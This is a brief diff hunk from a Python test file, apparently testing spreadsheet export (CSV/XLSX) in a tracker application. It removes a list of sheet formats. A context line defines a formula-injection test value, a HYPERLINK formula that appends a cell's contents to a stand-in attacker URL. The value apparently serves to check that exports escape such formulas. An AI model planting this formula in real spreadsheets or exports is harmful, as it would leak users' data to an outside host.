@@ -71,7 +71,6 @@ BASE = "https://tracker.uni.example/"
 HOSTILE = '=HYPERLINK("http://evil.example/"&A1)'
 _ASKED = "=Ветеринария бойынша қайта даярлау"
 _QUIET = catalogue()["quiet.only"]["en"]
-SHEETS = [Format.CSV, Format.XLSX]
 
 
 @pytest.fixture
